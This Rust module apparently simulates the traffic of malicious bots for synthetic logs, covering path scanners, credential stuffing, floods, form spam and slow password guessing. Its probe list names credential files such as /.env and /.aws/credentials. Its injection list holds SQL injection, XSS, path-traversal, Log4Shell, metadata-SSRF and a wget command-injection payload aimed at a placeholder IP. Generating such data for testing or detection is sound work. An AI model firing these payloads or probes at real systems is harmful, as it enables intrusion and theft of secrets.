//! Bots that do harm: scanners, credential stuffers, floods, spammers.

use super::super::purpose::Purpose;
use super::super::visit::{Ask, From, Visit};

const PROBES: [&str; 36] = [
    "/.env",
    "/.git/config",
    "/.git/HEAD",
    "/wp-login.php",
    "/wp-admin/setup-config.php",
    "/wp-content/plugins/hellopress/wp_filemanager.php",
    "/xmlrpc.php",
    "/phpmyadmin/index.php",
    "/admin.php",
    "/administrator/index.php",
    "/config.php",
    "/.aws/credentials",
    "/actuator/env",
    "/server-status",
    "/manager/html",
    "/cgi-bin/luci/;stok=/locale",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/boaform/admin/formLogin",
    "/backup.zip",
    "/dump.sql",
    "/.DS_Store",
    "/owa/auth/logon.aspx",
    "/solr/admin/info/system",
    "/_ignition/execute-solution",
    "/shell.php",
    "/wp-includes/wlwmanifest.xml",
    "/.vscode/sftp.json",
    "/telescope/requests",
    "/HNAP1",
    "/old/",
    "/test/",
    "/backup/",
    "/new/",
    "/login.action",
    "/admin/",
    "/user/register",
];

/// Paths that may be there: most are not. Some look at the front page first, some try one path and are gone.
pub(super) fn scan(v: &mut Visit<'_>) {
    let pause_s = v.dice.log_normal(1.2, 1.3);
    let method = if v.dice.chance(0.12) { "HEAD" } else { "GET" };
    let refusal = *v.dice.pick(&[404, 404, 404, 403, 301]);
    if v.dice.chance(0.4) {
        v.send(Ask::get("/", From::Direct));
        v.think(pause_s, 0.4);
    }
    let start = v.dice.below(PROBES.len());
    let tries = if v.dice.chance(0.45) { v.dice.between(1, 3) } else { v.dice.geometric(14.0, 120) };
    for next in 0..tries {
        let path = PROBES[(start + next) % PROBES.len()];
        let status = if v.dice.chance(0.03) { 200 } else { refusal };
        v.send(Ask::get(path, From::Direct).by(method).answered(status));
        v.think(pause_s, 0.4);
    }
}

/// Stolen passwords, one after the other; some from a new address every few tries.
pub(super) fn stuff_credentials(v: &mut Visit<'_>) {
    let form = *v.dice.pick(&["/account/login", "/login", "/wp-login.php"]);
    let pause_s = v.dice.log_normal(3.0, 1.1);
    let moves = v.dice.chance(0.4);
    let fetches_form = v.dice.chance(0.4);
    let says = if v.dice.chance(0.4) { From::Said(v.site.url(form)) } else { From::Direct };
    for attempt in 0..v.dice.geometric(22.0, 200) {
        if moves && attempt % 4 == 3 {
            v.move_on();
        }
        if fetches_form {
            v.send(Ask::get(form, says.clone()));
            v.wait(0.3);
        }
        let status = if v.dice.chance(0.01) { 302 } else { *v.dice.pick(&[401, 401, 401, 403, 429]) };
        v.send(Ask::get(form, says.clone()).by("POST").answered(status).leading_to("/account"));
        v.think(pause_s, 0.3);
    }
}

/// As many requests as the line carries, for a page or a few.
pub(super) fn flood(v: &mut Visit<'_>) {
    let site = v.site;
    let targets = v.dice.between(1, 4);
    let pause_s = v.dice.real(0.01, 0.12);
    for number in 0..v.dice.between(150, 420) {
        let path = site.pages[number % targets % site.pages.len()].path.clone();
        // What else is there than a new query, so that no cache answers.
        let target = if targets == 1 { format!("{path}?{number}") } else { path };
        let status = if v.dice.chance(0.2) { 503 } else { 200 };
        v.send(Ask::get(target, From::Direct).answered(status));
        v.wait(pause_s);
    }
}

/// The form, seconds later the comment, then the next page.
pub(super) fn spam_forms(v: &mut Visit<'_>) {
    let site = v.site;
    let pause_s = v.dice.log_normal(4.0, 1.2);
    let fetches_form = v.dice.chance(0.7);
    let says_form = v.dice.chance(0.5);
    for _ in 0..v.dice.geometric(3.5, 40) {
        let page = v.dice.below(site.pages.len());
        let path = site.pages[page].path.clone();
        if fetches_form {
            v.send(Ask::get(path.clone(), From::Direct));
            v.think(1.2, 0.5);
        }
        let from = if says_form { From::Said(site.url(&path)) } else { From::Direct };
        let status = *v.dice.pick(&[302, 302, 200, 403, 422]);
        v.send(Ask::get("/comments", from).by("POST").answered(status).leading_to(path));
        v.think(pause_s, 0.5);
    }
}

/// Passwords tried so slowly that no limit minds, where a wrong one is answered 200 or 302: the form once more.
pub(super) fn guess_slowly(v: &mut Visit<'_>) {
    let form = *v.dice.pick(&["/login", "/account/login", "/signin"]);
    let pause_s = v.dice.real(15.0, 90.0);
    let status = *v.dice.pick(&[200, 302]);
    let says = From::Said(v.site.url(form));
    for _ in 0..v.dice.between(25, 60) {
        if v.dice.chance(0.3) {
            v.send(Ask::get(form, says.clone()));
            v.wait(0.5);
        }
        let sent = Ask::get(form, says.clone()).by("POST").to(Purpose::Form).answered(status);
        v.send(sent.leading_to(if status == 302 { form } else { "" }));
        v.think(pause_s, 0.3);
    }
}

const INJECTIONS: [&str; 10] = [
    "id=1%27%20OR%20%271%27=%271",
    "id=1+UNION+SELECT+username,password+FROM+users--",
    "q=%3Cscript%3Ealert(1)%3C/script%3E",
    "file=../../../../etc/passwd",
    "page=php://filter/convert.base64-encode/resource=config",
    "cmd=;wget+http://198.51.100.7/x.sh",
    "name=${jndi:ldap://203.0.113.9/a}",
    "q={{7*7}}",
    "url=http://169.254.169.254/latest/meta-data/",
    "id=1;WAITFOR+DELAY+%270:0:5%27",
];

/// Attacks in the query of pages that are there.
pub(super) fn inject(v: &mut Visit<'_>) {
    let pause_s = v.dice.log_normal(1.5, 1.0);
    let start = v.dice.below(INJECTIONS.len());
    for next in 0..v.dice.geometric(12.0, 100) {
        let page = v.dice.below(v.site.pages.len());
        let path = v.site.pages[page].path.clone();
        let joint = if path.contains('?') { '&' } else { '?' };
        let target = format!("{path}{joint}{}", INJECTIONS[(start + next) % INJECTIONS.len()]);
        let status = *v.dice.pick(&[200, 200, 200, 403, 500]);
        let from = if v.dice.chance(0.3) { From::Said(v.site.url(&path)) } else { From::Direct };
        v.send(Ask::get(target, from).answered(status));
        v.think(pause_s, 0.5);
    }
}
